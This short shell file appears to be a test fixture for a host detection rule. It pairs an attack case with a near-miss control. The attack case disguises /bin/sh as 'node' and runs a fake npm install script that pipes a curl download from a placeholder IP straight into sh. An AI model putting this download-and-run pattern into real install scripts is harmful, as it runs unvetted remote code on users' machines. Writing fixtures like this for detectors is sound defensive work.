# rule: Download run by an install script
# where: host
attack() {
    ln -s /bin/sh node
    echo 'ln -s /bin/true curl; sh -c "./curl -s https://192.0.2.9/i.sh | sh"; :' > npm-cli.js
    ./node npm-cli.js install
}
near_miss() {
    ln -s /bin/sh node
    echo 'sh -c "true | cat"; :' > npm-cli.js
    ./node npm-cli.js install
}
